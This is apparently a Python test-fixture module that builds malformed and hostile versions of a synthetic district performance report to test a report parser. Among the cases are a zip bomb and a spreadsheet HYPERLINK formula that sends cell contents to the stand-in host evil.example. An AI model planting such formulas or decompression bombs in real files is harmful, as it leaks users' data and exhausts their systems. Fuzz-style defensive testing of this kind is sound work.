"""A corpus of hostile report files, written from one demo report so each differs from a
good report by exactly the trouble it carries."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path

from sakip_analysis.demo import generate_demo

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def good_report(folder: Path, kecamatan: str = "Perak", year: int = 2024) -> Path:
    """One demo report as text (title page, eight tables, narrative)."""
    generate_demo(folder, kecamatan=[kecamatan], years=(year,), formats=("txt",))
    return folder / str(year) / f"{kecamatan.lower()}.txt"


def _edit(base: str, old: str, new: str) -> str:
    assert old in base, old
    return base.replace(old, new, 1)


def _title(kecamatan: str) -> str:
    return (f"PEMERINTAH KABUPATEN JOMBANG\n\nKECAMATAN {kecamatan.upper()}\n\n"
            "DATA DEMO SINTETIS — BUKAN DATA RESMI\n\nLKJIP\n\nTAHUN 2024\n\n")


def _as(text: str, kecamatan: str) -> str:
    """The demo report re-labelled as another kecamatan, so no two files collide."""
    return text.replace("Perak", kecamatan).replace("PERAK", kecamatan.upper())


CASES: dict[str, Callable[[str], bytes]] = {
    # A control character inside a table row, and a NUL far into the file.
    "bel.txt": lambda t: _as(t, "Bareng").replace("Nilai SAKIP\t", "Nilai\x07 SAKIP\t", 1)
    .encode(),
    "nul.txt": lambda t: (_as(t, "Gudo")[:4200] + "\x00" + _as(t, "Gudo")[4200:]).encode(),
    # A formula where a label should be.
    "formula.txt": lambda t: _as(t, "Kabuh").replace("Nilai SAKIP\t", FORMULA + "\t").encode(),
    # A file named like a formula.
    "=1+2.txt": lambda t: _as(t, "Kudu").encode(),
    # Figures past what a report can mean.
    "digits.txt": lambda t: _edit(_as(t, "Ngoro"), "\t65,36\t",
                                  "\t123456789012345678901234567\t").encode(),
    "exponent.txt": lambda t: _edit(_as(t, "Ngusikan"), "\t65,36\t", "\t1e309\t").encode(),
    # A row longer than its header.
    "long-row.txt": lambda t: _edit(_as(t, "Peterongan"), "\t65,36\t94,72\n",
                                    "\t65,36\t94,72\t1\t2\t3\n").encode(),
    # A title page and text, no table at all.
    "no-table.txt": lambda t: (_title("Plandaan") + "KATA PENGANTAR\n\nTidak ada tabel.\n")
    .encode(),
    # No bytes; bytes that are not a document; a .docx that is not a zip.
    "empty.txt": lambda t: b"",
    "garbage.pdf": lambda t: bytes(range(256)) * 40,
    "not-a-zip.docx": lambda t: b"PK\x03\x04" + b"\xff" * 500,
    # Text in UTF-16 and in Windows-1252.
    "utf16.txt": lambda t: _as(t, "Sumobito").encode("utf-16"),
    "cp1252.txt": lambda t: _as(t, "Tembelang").replace("BUKAN", "BUKAN – ").encode("cp1252",
                                                                                   "replace"),
    # A paragraph longer than an xlsx cell holds.
    "long-text.txt": lambda t: _edit(_as(t, "Wonosalam"), "KATA PENGANTAR\n",
                                     "KATA PENGANTAR\n\n" + "kata " * 8000 + "\n").encode(),
}


def write_corpus(folder: Path, good: Path) -> dict[str, Path]:
    """Every hostile case beside the good report, in `folder`."""
    base = good.read_text(encoding="utf-8")
    folder.mkdir(parents=True, exist_ok=True)
    out = {}
    for name, make in CASES.items():
        out[name] = folder / name
        out[name].write_bytes(make(base))
    bomb = folder / "bomb.docx"  # a small .docx whose document part expands a thousandfold
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document>" + " " * 5_000_000 + "</w:document>")
    out["bomb.docx"] = bomb
    return out
